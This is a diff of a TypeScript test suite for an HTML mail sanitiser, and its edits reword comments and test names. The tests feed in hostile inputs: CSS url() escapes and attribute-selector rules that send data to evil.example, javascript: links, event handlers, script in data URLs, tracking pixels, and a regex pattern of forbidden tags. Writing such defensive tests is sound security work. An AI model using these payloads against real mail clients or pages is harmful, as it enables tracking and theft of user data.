@@ -7,7 +7,7 @@ const shown = (html: string, remoteImages = false) =>
     inlineUrl: (id) => (id === 'logo@x' ? 'https://postern.example/download/token' : null),
   });
 
-/** Whatever a mail says, none of this is in what a page is given. */
+/** None of this may reach a page, whatever a mail contains. */
 const NEVER =
   /<(?:script|style|iframe|object|embed|form|input|button|base|meta|link|svg|math|template|video|audio|frame|textarea|select)\b|\son\w+\s*=|javascript:|vbscript:|url\(|expression\(|@import|position\s*:|srcset|formaction|\bid=|class=/i;
 
@@ -59,7 +59,7 @@ describe('hostile HTML', () => {
     expect(cleaned).not.toMatch(NEVER);
   });
 
-  // Each stands in a style attribute, and in a rule that meets the element.
+  // Each style is tested in a style attribute, and in a rule that matches the element.
   it.each([
     ['background:u\\72l(https://evil.example)'],
     ['background:u\\000072 l(https://evil.example)'],
@@ -99,11 +99,12 @@ describe('hostile HTML', () => {
     ['color:red\\'],
     ['animation:evil 1s;transition:all 1s;transform:translate(-999px)'],
     ['margin:-99px;top:0;left:0;inset:0;will-change:position'],
-  ])('a style is left out, or what is bad of it: %s', (style) => {
+  ])('a style is removed, or its dangerous part is: %s', (style) => {
     const attribute = style.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
     const html = `<p style="${attribute}">x</p>`;
-    // Words of a style that was ended in its midst are shown as words, as in a browser.
-    const styles = (of: string) => [...shown(of, true).matchAll(/ style="([^"]*)"/g)].map(([, said]) => said).join(';');
+    // The rest of a style block that is closed early is shown as words, as in a browser.
+    const styles = (of: string) =>
+      [...shown(of, true).matchAll(/ style="([^"]*)"/g)].map(([, style]) => style).join(';');
     for (const one of [
       html,
       `<style>p{${style}}</style><p>x</p>`,
@@ -133,11 +134,11 @@ describe('hostile HTML', () => {
       '<style>input[value^=a]{background:url(https://evil.example/a)}p:has(i){color:red}</style>',
     ],
     ['that asks where the reader was', '<style>p:visited,p:hover,p:target{color:red}</style>'],
-  ])('a style block %s says nothing', (_, block) => {
+  ])('a style block %s has no effect', (_, block) => {
     expect(shown(`${block}<p>x</p>`)).toBe('<p>x</p>');
   });
 
-  it('a style block is never in what a page is given, however it is written', () => {
+  it('a style block never reaches a page, however it is written', () => {
     for (const html of [
       '<style>p{color:red}</style ><p>x</p>',
       '<style><!--</style><p>x</p><!----></style>',
@@ -152,7 +153,7 @@ describe('hostile HTML', () => {
       expect(shown(html)).not.toMatch(/<(?!\/?p\b)/);
   });
 
-  it('a map or an area names nothing of the page', () => {
+  it('a map or an area cannot take a name that the page uses', () => {
     const html = shown(
       '<map name=document id=forms><area name=x id=y ping="https://evil.example" download href=" javascript:alert(1)" onfocus=alert(1) tabindex=0></map><img usemap="//evil.example#x" usemap="#y" ismap name=z>',
       true,
@@ -160,7 +161,7 @@ describe('hostile HTML', () => {
     expect(html).toMatch(/^<map name="mail-[\da-f]{12}-1"><area \/><\/map><img \/>$/);
   });
 
-  it('loads nothing from elsewhere unless asked to', () => {
+  it('loads nothing from other hosts unless requested', () => {
     const html =
       '<img src="https://track.example/p.gif" alt="logo"><img src="//track.example/q.gif"><img src="/local">';
     expect(shown(html)).not.toContain('src=');
@@ -186,7 +187,7 @@ describe('hostile HTML', () => {
     expect(shown('<img src="data:text/html,<script>alert(1)</script>">')).not.toContain('src=');
   });
 
-  it('opens links beside the page and lends them nothing', () => {
+  it('opens links in a new window and gives them no access', () => {
     expect(shown('<a href="https://a.example" target="_top" rel="opener">x</a>')).toBe(
       '<a target="_blank" rel="noopener noreferrer nofollow" href="https://a.example">x</a>',
     );
@@ -198,7 +199,7 @@ describe('hostile HTML', () => {
     expect(shown('<html><head><title>t</title><meta charset=x><body><p>Hi</p></body></html>')).toContain('<p>Hi</p>');
   });
 
-  it('keeps what a mail looks like', () => {
+  it('keeps the appearance of a mail', () => {
     const html =
       '<table width="600" bgcolor="#fff"><tr><td style="padding:10px 20px;color:#333;font-family:Arial, sans-serif"><b>Hi</b></td></tr></table>';
     const cleaned = shown(html);
@@ -207,7 +208,7 @@ describe('hostile HTML', () => {
     expect(cleaned).toContain('font-family:Arial, sans-serif');
   });
 
-  it('is done in time with what is too deep, too long or never closed', () => {
+  it('finishes in time for input that is too deep, too long or never closed', () => {
     const before = process.cpuUsage();
     shown('<div>'.repeat(50_000));
     shown(`${'<b><i>'.repeat(30_000)}x`);
@@ -217,7 +218,7 @@ describe('hostile HTML', () => {
     shown(`<p style="margin:${'1px '.repeat(50_000)}x">x</p>`);
     shown(`<img src="data:image/png;base64,${'A'.repeat(500_000)}!">`);
     shown('&#'.repeat(300_000));
-    // What takes longer than its length takes hours; how busy the machine is does not count.
+    // Work that is not linear would take hours. CPU time does not depend on how busy the machine is.
     expect(process.cpuUsage(before).user).toBeLessThan(30_000_000);
     expect((shown('<div>'.repeat(1_000)).match(/<div>/g) ?? []).length).toBeLessThanOrEqual(201);
   });
